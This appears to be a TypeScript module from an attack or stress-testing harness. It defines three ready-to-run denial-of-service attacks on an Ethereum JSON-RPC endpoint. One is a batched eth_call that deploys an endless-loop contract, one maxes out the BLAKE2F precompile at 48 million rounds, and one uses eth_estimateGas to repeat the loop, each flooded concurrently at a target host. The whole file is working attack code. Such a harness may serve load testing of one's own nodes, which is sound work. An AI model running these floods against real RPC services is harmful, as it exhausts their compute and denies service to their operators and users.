/** Calls on the embedded chain that compute until they are stopped: a loop in code, and precompiles that are given the most work. */

import { type Attack, hosts } from '../attack.ts';
import { batch, flood } from '../many.ts';

/** JUMPDEST PUSH1 0 JUMP, as the code of a contract to create. */
const LOOP = '0x5b600056';
/** 48 million rounds, then 212 bytes of state (EIP-152). */
const BLAKE2F = { to: `0x${'9'.padStart(40, '0')}`, data: `0x02dc6c00${'00'.repeat(208)}01` };

export const evmLoops: Attack = {
  name: 'EVM loops',
  run(target, seen, signal) {
    const body = batch(60, 'eth_call', [{ data: LOOP }, 'latest']);
    return flood(8, { target, seen, signal }, { host: hosts.chain, body: () => body });
  },
};

export const precompileLoops: Attack = {
  name: 'precompile loops',
  run(target, seen, signal) {
    const body = batch(60, 'eth_call', [BLAKE2F, 'latest']);
    return flood(8, { target, seen, signal }, { host: hosts.chain, body: () => body });
  },
};

/** An estimate executes its call several times. */
export const estimateLoops: Attack = {
  name: 'estimates of loops',
  run(target, seen, signal) {
    const body = batch(20, 'eth_estimateGas', [{ data: LOOP }]);
    return flood(8, { target, seen, signal }, { host: hosts.chain, body: () => body });
  },
};
